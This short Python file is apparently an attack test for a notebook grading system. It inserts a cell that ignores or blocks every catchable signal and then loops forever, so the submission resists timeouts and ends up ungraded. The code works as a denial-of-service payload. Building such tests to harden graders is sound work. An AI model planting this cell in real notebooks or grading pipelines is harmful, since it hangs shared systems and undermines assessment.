"""Turns alarms and signals off before it loops for ever."""

from grader.attacks import insert

STOCK = "was not graded"


def cell():
    import signal

    for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
        signal.signal(number, signal.SIG_IGN)
    signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals))
    while True:
        pass


def attack(nb, folder):
    insert(nb, cell)
